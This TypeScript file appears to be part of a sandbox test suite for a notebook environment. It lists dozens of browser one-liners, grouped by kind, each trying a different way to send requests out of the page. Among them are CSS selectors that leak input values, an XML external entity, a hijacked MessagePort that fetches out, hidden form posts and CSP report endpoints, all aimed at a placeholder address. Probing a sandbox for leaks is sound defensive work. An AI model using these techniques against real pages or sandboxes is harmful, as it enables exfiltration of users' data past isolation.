/** More ways out of a notebook, by kind; the words that stand for addresses are those of probes.ts. */
const kinds: Record<string, Record<string, string>> = {
  fetching: {
    "fetch of a request": "await fetch(new Request('TO', {mode: 'no-cors', credentials: 'include'}))",
    "fetch of a stream": "await fetch('TO', {method: 'POST', duplex: 'half', body: new Blob(['x']).stream()})",
    "fetch with topics": "await fetch('TO', {browsingTopics: true}); await document.browsingTopics()",
    "XMLHttpRequest that waits": "const r = new XMLHttpRequest(); r.open('POST', 'TO', false); r.send('x')",
    "WebSocketStream": "await new WebSocketStream('WS').opened",
    "a socket": "new TCPSocket('127.0.0.1', UDP); new UDPSocket({remoteAddress: '127.0.0.1', remotePort: UDP})",
    "a background fetch": "(await navigator.serviceWorker.ready).backgroundFetch.fetch('x', ['TO'])"
  },
  images: {
    "a lazy image": "document.body.innerHTML += '<img loading=lazy src=\"TO\">'",
    "an image with its own policy": "document.body.innerHTML += '<img referrerpolicy=unsafe-url crossorigin " +
      "src=\"TO\">'",
    "an attribution": "document.body.innerHTML += '<img src=\"data:,\" attributionsrc=\"TO\"><a " +
      "attributionsrc=\"TO\">x</a>'",
    "an image that is animated": "document.body.innerHTML += '<svg><image><animate attributeName=\"href\" to=\"TO\" " +
      "dur=\"1ms\" fill=\"freeze\"/></image></svg>'",
    "an image of a media session": "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: 'TO'}]})",
    "an image of a list of songs": "document.body.innerHTML += `<video autoplay src=\"data:application/x-mpegurl," +
      "%23EXTM3U%0A%23EXTINF:1,%0ATO%0A\"></video>`",
    "a sound": "document.body.innerHTML += '<bgsound src=\"TO\"><audio autoplay><source src=\"TO\"></audio>'",
    "an element of XML from outside": "new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY b SYSTEM " +
      "\"TO\">]><a>&b;</a>', " +
      "'application/xml')",
    "a document of a picture": "document.body.innerHTML += `<img src=\"data:image/svg+xml,<!DOCTYPE svg SYSTEM " +
      "'TO'><svg " +
      "xmlns='http://www.w3.org/2000/svg'/>\">`"
  },
  styles: {
    "a border": "document.body.style.borderImage = 'url(TO) 1'",
    "a content": "document.body.innerHTML += '<style>body::after { content: url(TO) }</style>'",
    "a fade of two pictures": "document.body.style.background = '-webkit-cross-fade(url(TO), url(TO), 50%)'",
    "a shape": "document.body.innerHTML += '<p style=\"float: left; shape-outside: url(TO); offset-path: " +
      "url(TO#a)\">x</p>'",
    "a clip, a fill and a marker": "document.body.innerHTML += '<svg><path d=\"M0 0h9v9z\" style=\"clip-path: " +
      "url(TO#a); " +
      "fill: url(TO#b); marker-start: url(TO#c)\"/></svg>'",
    "a letter by letter": "document.body.innerHTML += '<input value=\"secret\"><style>input[value^=s] { " +
      "background: url(TO) " +
      "}</style>'",
    "a property of its own": "CSS.registerProperty({name: '--leak', syntax: '<url>', inherits: false, initialValue: " +
      "'url(TO)'}); document.body.style.background = 'var(--leak)'",
    "a layer": "document.body.innerHTML += '<style>@layer a; @import url(TO) layer(a); @namespace url(TO);</style>'",
    "a face that is loaded": "document.body.innerHTML += '<style>@font-face { font-family: leak; src: url(TO) " +
      "}</style>'; " +
      "await document.fonts.load('1em leak')",
    "a caption's style": "document.body.innerHTML += '<video><track default " +
      "src=\"data:text/vtt,WEBVTT\"></video><style>" +
      "::cue { background: url(TO) }</style>'",
    "a style within a picture": "document.body.innerHTML += '<svg><style>@import \"TO\"; rect { fill: url(TO#a) " +
      "}</style>" +
      "<rect width=9 height=9 /></svg>'"
  },
  links: {
    "a face ahead": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: " +
      "'font', href: " +
      "'TO', crossOrigin: ''}))",
    "a fetch ahead": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: " +
      "'fetch', " +
      "href: 'TO', crossOrigin: ''}))",
    "a page ahead": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prerender', href: " +
      "'TO'}))",
    "another style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'alternate " +
      "stylesheet', " +
      "title: 'x', href: 'TO'}))",
    "an icon of a desk": "document.head.append(Object.assign(document.createElement('link'), {rel: " +
      "'apple-touch-icon', " +
      "href: 'TO'}))",
    "a dictionary": "document.head.append(Object.assign(document.createElement('link'), {rel: " +
      "'compression-dictionary', " +
      "href: 'TO'}))",
    "pages ahead by rule": "document.body.innerHTML += '<a href=\"TO\">x</a>'; " +
      "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', textContent: " +
      "JSON.stringify({prefetch: [{source: 'document', where: {href_matches: '*'}, eagerness: 'immediate'}]})}))",
    "a bundle": "document.head.append(Object.assign(document.createElement('script'), {type: 'webbundle', " +
      "textContent: " +
      "JSON.stringify({source: 'TO', resources: ['TO']})}))"
  },
  programs: {
    "a worker from data": "new Worker('data:text/javascript,fetch(\"TO\")')",
    "a worker that is a module": "new Worker(URL.createObjectURL(new Blob(['import \"TO\"'], {type: " +
      "'text/javascript'})), " +
      "{type: 'module'})",
    "a shared worker from data": "new SharedWorker('data:text/javascript,fetch(\"TO\")')",
    "a module from data": "await eval(`import('data:text/javascript,fetch(\"TO\")')`)",
    "a module that is JSON": "await eval(`import('TO', {with: {type: 'json'}})`)",
    "a script within a picture": "document.body.innerHTML += '<svg><script href=\"TO\"></script></svg>'; " +
      "document.body.append(document.querySelector('svg script').cloneNode())",
    "a script with a nonce": "document.body.append(Object.assign(document.createElement('script'), {nonce: " +
      "document.querySelector('script').nonce, textContent: 'fetch(\"TO\")'}))",
    "a map of its source": "eval('1\\n//# sourceMappingURL=TO')",
    "WebAssembly": "await WebAssembly.instantiateStreaming(fetch('TO'))"
  },
  "other places": {
    "a way by the navigation": "await navigation.navigate('TO').finished",
    "an assigned address": "location.assign('TO')",
    "an address's parts": "location.host = new URL('TO').host",
    "a letter by mail": "location.href = 'mailto:a@127.0.0.1?body=leak'",
    "a base over the top": "document.head.append(Object.assign(document.createElement('base'), {target: '_top'})); " +
      "document.body.append(Object.assign(document.createElement('a'), {href: 'TO', id: 'z'})); " +
      "document.getElementById('z').click()",
    "a link that is set": "document.body.innerHTML += '<svg><a id=z><set attributeName=href to=TO " +
      "/><text>x</text></a>" +
      "</svg>'; document.getElementById('z').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
    "a link of a formula": "document.body.innerHTML += '<math href=\"TO\" id=z><mi>x</mi></math>'; " +
      "document.getElementById('z').click()",
    "a window without an opener": "open('TO', 'leak', 'noopener')",
    "a window of a blob": "open(URL.createObjectURL(new Blob(['<img src=TO>'], {type: 'text/html'})))",
    "a picture in picture": "const w = await documentPictureInPicture.requestWindow(); w.location = 'TO'",
    "a form's button": "document.body.innerHTML += '<form><button formaction=\"TO\" formtarget=_blank id=z>x</button>" +
      "</form>'; document.getElementById('z').click()",
    "a form of a picture": "document.body.innerHTML += '<form action=\"TO\"><input type=image id=z></form>'; " +
      "document.getElementById('z').click()",
    "a form to another window": "document.body.innerHTML += '<form action=\"TO\" target=leak method=post></form>'; " +
      "document.forms[0].submit()"
  },
  "what stays": {
    "a cookie's store": "await cookieStore.set('leak', '1')",
    "files of its own": "await navigator.storage.getDirectory()",
    "a bucket": "await navigator.storageBuckets.open('leak')",
    "access to what is kept": "await document.requestStorageAccess(); document.cookie = 'leak=1'",
    "storage that is shared": "await sharedStorage.set('leak', '1')",
    "an interest": "await navigator.joinAdInterestGroup({owner: 'TO', name: 'leak', biddingLogicURL: 'TO'}, 9)"
  },
  others: {
    "letters to the other frames": "for (let i = 0; i < parent.length; i++) parent[i].postMessage('leak', '*')",
    "a port that is caught": "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = " +
      "function (...all) { fetch('TO'); return post.apply(this, all) }",
    "an observed channel": "new BroadcastChannel('tollbook').onmessage = () => fetch('TO')",
    "an account by another": "await navigator.credentials.get({identity: {providers: [{configURL: 'TO', clientId: " +
      "'x'}]}})",
    "a key of the reader's": "await navigator.credentials.create({publicKey: {challenge: new Uint8Array(9), rp: " +
      "{name: " +
      "'x'}, user: {id: new Uint8Array(9), name: 'x', displayName: 'x'}, pubKeyCredParams: []}})",
    "a screen elsewhere": "await new PresentationRequest('TO').start()",
    "a device": "await navigator.usb.requestDevice({filters: []})",
    "a device near by": "await navigator.bluetooth.requestDevice({acceptAllDevices: true})",
    "the screen": "await navigator.mediaDevices.getDisplayMedia()",
    "a file of the reader's": "await showOpenFilePicker()",
    "a voice": "speechSynthesis.speak(new SpeechSynthesisUtterance('leak'))",
    "what is heard": "new webkitSpeechRecognition().start()",
    "the printer": "print()",
    "the pointer": "await document.body.requestPointerLock()"
  },
  reports: {
    "a policy that reports": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: " +
      "'Content-Security-Policy', content: \"img-src 'none'; report-uri TO\"})); new Image().src = 'x.png'",
    "a place for reports": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: " +
      "'Reporting-Endpoints', content: 'default=\"TO\"'})); new Image().src = 'TO'",
    "a violation that is heard": "addEventListener('securitypolicyviolation', () => navigator.sendBeacon('TO', " +
      "'x'), {once: true}); " +
      "new Image().src = 'TO'",
    "a cookie in the head": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: " +
      "'Set-Cookie', " +
      "content: 'leak=1'}))"
  }
};

export const moreProbes: Record<string, string> = Object.assign({}, ...Object.values(kinds));
